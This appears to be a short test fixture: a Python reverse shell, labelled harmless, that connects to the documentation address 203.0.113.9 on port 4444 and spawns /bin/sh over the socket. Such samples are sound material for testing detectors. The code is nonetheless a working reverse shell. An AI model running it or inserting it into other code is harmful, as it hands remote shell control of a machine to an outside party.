# Harmless test sample: classic python reverse shell shape, aimed at TEST-NET-3.
import socket,subprocess,os,pty
s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("203.0.113.9",4444))
os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)
pty.spawn("/bin/sh")
